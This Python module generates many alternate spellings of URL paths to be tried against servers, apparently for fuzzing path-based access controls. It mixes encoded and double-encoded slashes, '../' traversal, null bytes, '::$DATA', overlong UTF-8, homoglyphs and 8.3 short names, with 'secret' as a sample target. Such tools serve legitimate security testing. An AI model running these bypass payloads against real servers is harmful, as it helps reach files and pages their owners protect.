"""Ways to write a path, of which some server or other takes many for the path itself."""

import random

BEFORE = ["/", "//x", "///x", "//x:80", "//u@x", "//x%2Fy", "//x%3F", "/%2F", "/%2Fx", "/x", "/;", "/;a=b", "/(S(x))", "/open..", "/static..",
          "/x;/%2e%2e", "/x%2f..", "/x/%252e%252e", "/*", "/.%80.", "/%20", "/index.html", "//[::1]", "/@", "/~"]
BEHIND = ["/", "//", ".", "..", "...", "%20", "+", "%00", "%0a", ";", ";x=y", ";jsessionid=1", "::$DATA", "%2f", "%2F.", "%5c", ".html", ".json",
          ".git", "~", "~1", "*", "%25", "%252f", "/x;", "/%20", "/.css", "/(S(x))", "%c0%80", "%c2%a0", "%e2%80%8b", "%cc%81", "%ff", "%ef%bb%bf",
          "?x", "?/../x", "%3f", "%23x", "/index.html", "/x/..%2f", "@", "'", "|", ":", "!", ",", "&a=b", "_", "-"]
WITHIN = {"/": ["//", "/;/", "/;x/", "/./", "/x/../", "\\", "%2f", "%5c", "%252f", "/%2f", "/%20/", "./", "../", "/.../", ";/", "::$DATA/", "%e2%88%95",
                "%ef%bc%8f", "/%e2%80%8b/", "/(S(x))/", "%00/", "/+/", "%3f/", "%c0%af", "%ff/", "/%80", "/x%2f..%2f", "/x/.%ff./"],
          "e": ["E", "%45", "%65", "%2565", "%ef%bd%85", "%e2%93%94", "%c3%a9", "e%cc%81", "%u0065"], "s": ["S", "%53", "%c5%bf", "%ef%bc%b3"],
          "secret": ["%73%65%63%72%65%74", "SECRET~1", "sec%80ret", "sec%e2%82ret", "s%ed%a0%80ecret", "sec%00ret", "sec%09ret", "se(S(x))cret", "secret,"],
          ".html": ["", ".HTML", ".htm", "%2ehtml", "%252ehtml", "%e2%80%a4html"], "index.html": ["", ".", "index"]}


def one(path: str, chance: random.Random) -> str:
    """The path with one more trick."""
    kind = chance.randrange(5)
    if kind == 0:
        return chance.choice(BEFORE) + path
    if kind == 1:
        return path + chance.choice(BEHIND)
    if kind == 2:
        at = chance.randrange(len(path))
        return f"{path[:at]}%{ord(path[at]):02x}{path[at + 1:]}"
    found = [w for w in WITHIN if w in path]
    word = chance.choice(found)
    at = chance.choice([i for i in range(len(path)) if path.startswith(word, i)])
    return path[:at] + chance.choice(WITHIN[word]) + path[at + len(word):]


def spellings(paths: list[str], n: int, seed: int) -> list[str]:
    """Each path with each trick alone, and more with two or three, n in all."""
    chance = random.Random(seed)
    made = dict.fromkeys(paths)
    for path in paths:
        made.update(dict.fromkeys(b + path for b in BEFORE))
        made.update(dict.fromkeys(path + b for b in BEHIND))
        for word, others in WITHIN.items():
            for at in range(len(path)):
                if path.startswith(word, at):
                    made.update(dict.fromkeys(path[:at] + o + path[at + len(word):] for o in others))
    while len(made) < n:
        path = chance.choice(paths)
        for _ in range(chance.randrange(2, 4)):
            path = one(path, chance)
        made[path] = None
    return [p for p in made if p.startswith("/")]
